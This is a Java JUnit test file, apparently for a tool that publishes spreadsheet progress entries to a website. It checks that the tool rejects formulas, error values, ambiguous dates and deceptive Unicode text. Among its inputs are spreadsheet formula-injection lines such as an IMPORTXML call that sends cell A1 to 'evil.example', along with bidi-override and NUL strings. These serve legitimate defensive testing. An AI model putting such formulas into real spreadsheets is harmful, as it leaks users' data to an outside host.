package org.sverka.fault;

import static org.assertj.core.api.Assertions.assertThat;
import static org.sverka.fault.Exchange.Kind.READ;
import static org.sverka.fault.Watch.DATE;
import static org.sverka.fault.Watch.EVIDENCE;
import static org.sverka.fault.Watch.SPB;
import static org.sverka.fault.Watch.STATUS;
import static org.sverka.fault.Watch.TEXT;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sverka.cli.Editor;

/** Cells that hold something else than they seem to, or more than a cell should. */
class ValueFaultsIT {
  private static final String LINK = "https://gov.spb.ru/news/1";

  @RegisterExtension static final Bench bench = Bench.own();

  private static Editor editor() {
    return bench.editor();
  }

  static Stream<Arguments> formulas() {
    return Stream.of(
        Arguments.of("1.1", STATUS, "=\"В работе\""),
        Arguments.of("1.2", SPB, "=1+1"),
        Arguments.of("1.3", DATE, "=45363+0"),
        Arguments.of("1.4", EVIDENCE, "=HYPERLINK(\"" + LINK + "\"; \"" + LINK + "\")"),
        Arguments.of("1.5", SPB, " =IMPORTXML(\"https://evil.example/?\" & A1; \"//a\")"),
        Arguments.of("1.6", SPB, "=image(\"https://evil.example/x.png\")"));
  }

  @ParameterizedTest
  @MethodSource("formulas")
  void f41_formulaWithAValueThatWouldBeRight_isRefusedAsAFormula(
      String measure, String column, String formula) {
    Watch watch = bench.watch();
    editor().type(measure, column, formula);
    bench.cycle();
    assertThat(watch.log()).hasSize(1).allMatch(line -> line.endsWith(" rejected"));
    assertThat(watch.rules()).contains("formula-in-cell");
    assertThat(watch.entries().get(0).path("after").asText()).contains("=");
    assertThat(watch.verdict(measure)).startsWith("Ошибка. ");
    valuesAreNotShown(watch, measure);
  }

  @Test
  void f41_formulaThatYieldsTheSignedText_isPutBackAsText() {
    Watch watch = bench.watch();
    editor().type("2.1", TEXT, "=\"" + editor().cell("2.1", TEXT) + "\"");
    bench.cycles(2);
    assertThat(watch.log()).containsExactly("2.1 edit text rejected", "2.1 repair text ");
    watch.siteIsAsItWas();
    watch.sheetIsAsItWas();
  }

  @ParameterizedTest
  @CsvSource({"3.1, #REF!", "3.2, #N/A", "3.3, #NAME?", "5.1, Loading...", "5.2, =NO(1)"})
  void f42_errorValue_isRefusedAndNotShown(String measure, String typed) {
    Watch watch = bench.watch();
    editor().type(measure, SPB, typed);
    bench.cycle();
    assertThat(watch.log()).containsExactly(measure + " edit progress.spb rejected");
    assertThat(watch.verdict(measure)).startsWith("Ошибка. ");
    valuesAreNotShown(watch, measure);
  }

  @Test
  void f42_cellThatIsStillLoading_isReadAgainAndHasOneRecord() {
    editor().type("5.3", SPB, "Проведена встреча операторов");
    bench.cycles(2);
    Watch watch = bench.watch();
    editor().type("5.3", SPB, "=IMPORTRANGE(\"x\"; \"A1\")");
    bench
        .wire()
        .reword(READ, 2, Damage.rewritten(answer -> answer.replace("#ERROR!", "Loading...")));
    bench.cycles(4);
    assertThat(bench.struck(READ)).isEqualTo(2);
    assertThat(watch.log()).containsExactly("5.3 edit progress.spb rejected");
    assertThat(watch.shown("5.3").at("/progress/spb").asText())
        .isEqualTo("Проведена встреча операторов");
  }

  @Test
  void f44_dateInAnotherFormat_isTheSameDate() {
    editor().type("6.1", DATE, "12.03.2024");
    editor().type("6.1", EVIDENCE, LINK);
    editor().type("6.1", STATUS, "Исполнено");
    bench.cycles(2);
    Watch watch = bench.watch();
    assertThat(watch.shown("6.1").path("completedOn").asText()).isEqualTo("2024-03-12");
    for (String pattern : List.of("mm/dd/yy", "yyyy-mm-dd", "0.00")) {
      formatted(pattern);
      bench.cycles(2);
      watch.nothingHasHappened();
    }
    bench.wire().reword(READ, 2, Damage.rewritten(text -> text.replace("45363,00", "3/12/2024")));
    bench.cycles(2);
    assertThat(bench.struck(READ)).isEqualTo(2);
    watch.nothingHasHappened();
  }

  private static void formatted(String pattern) {
    int row = editor().rowOf("6.1");
    int column = editor().columnOf(DATE);
    editor()
        .ask(
            """
            {"repeatCell": {"range": {"sheetId": TAB, "startRowIndex": %d, "endRowIndex": %d,
              "startColumnIndex": %d, "endColumnIndex": %d}, "cell": {"userEnteredFormat":
              {"numberFormat": {"type": "%s", "pattern": "%s"}}},
              "fields": "userEnteredFormat.numberFormat"}}"""
                .formatted(
                    row,
                    row + 1,
                    column,
                    column + 1,
                    pattern.startsWith("0") ? "NUMBER" : "DATE",
                    pattern));
  }

  @ParameterizedTest
  @CsvSource({"7.1, 03/04/24", "7.2, 3/4/2024", "7.3, '1,5'", "7.4, 3 апр", "7.5, 1e5"})
  void f44_dateThatMayBeReadInTwoWays_isRefusedWithTheReason(String measure, String typed) {
    Watch watch = bench.watch();
    editor().type(measure, DATE, typed);
    bench.cycle();
    assertThat(watch.log()).containsExactly(measure + " edit completedOn rejected");
    assertThat(watch.verdict(measure)).startsWith("Ошибка. «Дата исполнения»: ");
    valuesAreNotShown(watch, measure);
  }

  @Test
  void f44_doneOnADayThatCanBeReadInTwoWays_isNotShownAsDoneUntilTheDayIsMended() {
    editor().type("12.1", EVIDENCE, LINK);
    bench.cycle();
    Watch watch = bench.watch();
    editor().type("12.1", DATE, "02/03/24");
    editor().type("12.1", STATUS, "Исполнено");
    bench.cycle();
    watch.shown("12.1").path("held").forEach(held -> assertThat(held.path("rules")).hasSize(1));
    assertThat(watch.shown("12.1").path("held")).hasSize(2);
    assertThat(watch.shown("12.1").path("status").asText()).isEqualTo("not-started");
    assertThat(watch.log()).allMatch(line -> line.endsWith(" rejected"));
    editor().type("12.1", DATE, "02.03.2024");
    bench.cycle();
    assertThat(watch.shown("12.1").path("status").asText()).isEqualTo("done");
    assertThat(watch.shown("12.1").path("completedOn").asText()).isEqualTo("2024-03-02");
  }

  static Stream<Arguments> hostile() {
    return Stream.of(
        Arguments.of("8.1", "а".repeat(50_000), "text-length"),
        Arguments.of("8.2", "строка\n".repeat(7_000), "text-length"),
        Arguments.of("9.1", "\n".repeat(10_000) + "!", "text-length"),
        Arguments.of("9.2", "встреча\u0000проведена", "unprintable-character"),
        Arguments.of("9.3", "\u202Eтекст задом наперёд", "unprintable-character"),
        Arguments.of("10.1", "لقاء\u200F проведён", "unprintable-character"),
        Arguments.of("10.2", "встреча\u200D проведена", "unprintable-character"));
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void f50_textThatIsTooLongOrDeceives_isRefusedAndKeptEscaped(
      String measure, String typed, String rule) {
    Watch watch = bench.watch();
    editor().type(measure, SPB, typed);
    bench.cycle();
    assertThat(watch.log()).containsExactly(measure + " edit progress.spb rejected");
    assertThat(watch.rules()).contains(rule);
    // No database holds a NUL.
    assertThat(watch.entries().get(0).path("after").asText())
        .isEqualTo(typed.replace('\u0000', '\uFFFD'));
    assertThat(logPage()).contains(measure).doesNotContain("\u0000", "\u202E", "\u200F");
    assertThat(watch.verdict(measure)).startsWith("Ошибка. ").hasSizeLessThan(2_000);
    valuesAreNotShown(watch, measure);
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void f50_signedTextTypedOverWithIt_isPutBack(String measure, String typed) {
    Watch watch = bench.watch();
    editor().type(measure, TEXT, typed);
    bench.cycles(2);
    assertThat(watch.log())
        .containsExactly(measure + " edit text rejected", measure + " repair text ");
    assertThat(watch.verdict(measure)).hasSizeLessThan(5_000).doesNotContain("\u202E", "\u200F");
    watch.siteIsAsItWas();
    watch.sheetIsAsItWas();
  }

  private static String logPage() {
    return new Management(bench.program().httpPort()).get("/spb-kaliningrad-2023-2026/log");
  }

  @ParameterizedTest
  @ValueSource(strings = {"👩\u200D👩\u200D👧 семья", "لقاء عمل", "Встреча прошла"})
  void f50_textOfAnyScript_isShownAsItWasTyped(String typed) {
    editor().type("11.1", SPB, typed);
    bench.cycle();
    assertThat(bench.webmaster().measure("11.1").at("/progress/spb").asText()).isEqualTo(typed);
  }

  /** The measure is held and shows what it did, every other is the same. */
  private static void valuesAreNotShown(Watch watch, String measure) {
    assertThat(watch.shown(measure).path("held").size()).isEqualTo(1);
    assertThat(watch.shown(measure).path("status").asText()).isEqualTo("not-started");
    assertThat(watch.shown(measure).at("/progress/spb").asText()).isEmpty();
    assertThat(watch.shown(measure).path("completedOn").isNull()).isTrue();
    assertThat(watch.shown(measure).path("evidence")).isEmpty();
  }
}
